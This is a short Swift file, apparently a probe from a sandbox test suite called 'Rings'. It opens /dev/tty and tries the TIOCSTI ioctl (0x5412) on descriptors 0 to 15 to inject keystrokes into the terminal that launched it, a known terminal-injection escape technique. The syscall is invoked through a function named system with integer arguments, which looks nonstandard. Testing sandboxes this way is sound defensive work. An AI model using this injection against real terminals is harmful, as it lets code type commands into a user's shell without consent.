// Types into the terminal from which Rings was started.
import Foundation

func attack() -> String {
  let terminal = open("/dev/tty", O_RDWR)
  if terminal >= 0 { reached("the terminal") }
  #if arch(x86_64)
    for descriptor in 0..<16 {
      var letter = CChar(10)
      if system(
        16, descriptor, 0x5412, withUnsafeMutablePointer(to: &letter) { Int(bitPattern: $0) }, 0, 0,
        0) == 0
      {
        reached("typing")
      }
    }
  #endif
  return "?"
}
